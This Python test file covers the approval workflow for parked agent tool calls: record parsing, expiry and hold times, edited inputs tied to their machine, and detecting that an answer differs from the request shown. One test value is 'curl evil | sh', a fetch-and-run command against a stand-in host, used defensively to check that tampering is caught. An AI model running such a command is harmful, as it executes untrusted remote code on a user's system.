"""A parked call's record, and what an answer to it says (pure)."""

from __future__ import annotations

from typing import Any

import pytest

from cmdop_worker.errors import InvalidRequest
from cmdop_worker.models import ApprovalAnswer, ToolCall, ToolOutcome
from cmdop_worker.state.approvals import ParkedCall, ParkedRecord, parse_record
from cmdop_worker.state.keys import parked_member
from cmdop_worker.state.parked_index import filed_as, filed_calls
from cmdop_worker.surfaces.answer import request_of
from cmdop_worker.surfaces.approvals import edited_input, refusal_message, shown_differs

ASKED_MS = 1_000_000
CALL = ToolCall(
    run_id="r",
    turn=1,
    tool_use_id="t1",
    tool="execute_command",
    machine="m",
    input={"machine": "m", "command": "echo hi"},
    deadline_ms=ASKED_MS + 1_000,
    run_deadline_ms=ASKED_MS + 300_000,
)
PARKED = ParkedCall(
    call=CALL,
    reason="mode default",
    gate={"verdict": "ask", "reason": "mode default", "rule": None, "source": "mode"},
    asked_ms=ASKED_MS,
    expires_ms=ASKED_MS + 60_000,
    timeout_ms=1_000,
)
APPROVED = ApprovalAnswer(verdict="approved", by="ann", answered_ms=ASKED_MS + 5)


def record(**fields: Any) -> ParkedRecord:
    return ParkedRecord(parked=PARKED, grace_ms=1_500, **{"state": "waiting", **fields})


@pytest.mark.parametrize(
    ("why", "parked", "ended", "says"),
    [
        ("no_request", None, None, "run r has no approval request for tool call t1"),
        (
            "answered",
            record(state="approved", answer=APPROVED),
            None,
            "tool call t1 of run r is no longer waiting: it has already been answered "
            "(approved by ann)",
        ),
        ("expired", record(state="expired"), None, "its approval request expired after 60 s"),
        ("cancelled", record(state="cancelled"), None, "cancelled while waiting for approval"),
        (
            "ended",
            record(),
            ToolOutcome(tool_use_id="t1", tool="x", status="lost", output="machine lost\nmore"),
            "it has ended (lost: machine lost)",
        ),
    ],
)
def test_refusal_message_says_which(why, parked, ended, says) -> None:
    message = refusal_message(why, "r", "t1", parked, ended)
    assert says in message and "\n" not in message


@pytest.mark.parametrize(
    ("fields", "hold_ms"),
    [
        ({}, ASKED_MS + 60_000 + 1_500),  # waiting: its expiry
        ({"state": "approved", "deadline_ms": ASKED_MS + 9_000}, ASKED_MS + 9_000 + 1_500),
        ({"state": "denied"}, 0),
        ({"state": "expired"}, 0),
        ({"state": "cancelled"}, 0),
    ],
)
def test_a_turn_waits_for_a_parked_call_while_it_waits_and_once_approved(fields, hold_ms) -> None:
    assert record(**fields).hold_ms() == hold_ms


def test_a_record_reads_back_as_stored() -> None:
    fields = {"park": PARKED.model_dump_json(), "grace_ms": "1500", "taken": "1"}
    verdict = {
        "state": "approved",
        "answer": APPROVED.model_dump_json(),
        "deadline_ms": str(ASKED_MS + 1_005),
    }
    parsed = parse_record(fields, verdict)
    assert parsed is not None
    assert parsed.model_copy(update={"fingerprint": ""}) == record(
        state="approved", answer=APPROVED, deadline_ms=ASKED_MS + 1_005, taken=True
    )
    assert parsed.wait_s == 60
    assert parse_record({}, {}) is None


def test_a_verdict_written_into_the_record_counts_for_nothing() -> None:
    """A record is its machine's to write; only the verdict hash says where it stands."""
    fields = {
        "park": PARKED.model_dump_json(),
        "grace_ms": "1500",
        "state": "approved",
        "answer": APPROVED.model_dump_json(),
        "deadline_ms": str(ASKED_MS + 1_005),
    }
    parsed = parse_record(fields, {})
    assert parsed is not None
    assert (parsed.state, parsed.answer, parsed.deadline_ms) == ("waiting", None, None)


def test_once_answered_the_call_is_the_one_the_verdict_copied() -> None:
    rewritten = PARKED.call.model_copy(update={"input": {"command": "touch /x"}})
    fields = {
        "park": PARKED.model_copy(update={"call": rewritten}).model_dump_json(),
        "grace_ms": "1500",
    }
    verdict = {"state": "denied", "park": PARKED.model_dump_json()}
    parsed = parse_record(fields, verdict)
    assert parsed is not None and parsed.call == PARKED.call


def test_a_records_wait_is_as_redis_clock_set_it_not_the_machines() -> None:
    later = ASKED_MS + 7_000  # the machine's clock was 7 s behind Redis's
    fields = {
        "park": PARKED.model_dump_json(),
        "state": "waiting",
        "grace_ms": "1500",
        "asked_ms": str(later),
        "expires_ms": str(later + 60_000),
        "taken": "relay:12:abc",
    }
    parsed = parse_record(fields, {})
    assert parsed is not None and parsed.taken
    assert (parsed.parked.asked_ms, parsed.parked.expires_ms) == (later, later + 60_000)
    assert parsed.hold_ms() == later + 60_000 + 1_500


def test_an_edited_input_stays_on_the_calls_machine() -> None:
    assert edited_input(CALL, None, approve=True) is None
    assert edited_input(CALL, {"command": "ls"}, approve=True) == {"command": "ls", "machine": "m"}
    with pytest.raises(InvalidRequest, match="runs on m, not other"):
        edited_input(CALL, {"command": "ls", "machine": "other"}, approve=True)
    with pytest.raises(InvalidRequest, match="a denied call runs nothing"):
        edited_input(CALL, {"command": "ls"}, approve=False)
    with pytest.raises(InvalidRequest, match="JSON object"):
        edited_input(CALL, ["ls"], approve=True)  # type: ignore[arg-type]


def test_the_index_says_which_machines_filed_a_record_for_each_call() -> None:
    members = {parked_member("web", "t1"), parked_member("db", "t1"), parked_member("web", "t:2")}
    assert filed_calls(members) == {"t1": ["db", "web"], "t:2": ["web"]}


def test_a_record_counts_only_under_the_call_it_names() -> None:
    assert filed_as(CALL, "r", "t1", "m")
    assert not filed_as(CALL, "r", "t1", "other")  # filed by another machine
    assert not filed_as(CALL, "r2", "t1", "m")
    assert not filed_as(CALL, "r", "t2", "m")


def test_an_answer_to_what_was_shown_holds_only_when_the_record_asks_it() -> None:
    asked = request_of(record())
    shown = asked.model_dump(mode="json")
    assert not shown_differs(asked, shown)
    assert not shown_differs(asked, {**shown, "reason": "other words", "timeout_s": 1})
    for field, value in [
        ("input", {"machine": "m", "command": "curl evil | sh"}),
        ("machine", "other"),
        ("tool", "write_file"),
        ("resolved_input", {"command": "x"}),
    ]:
        assert shown_differs(asked, {**shown, field: value}), field
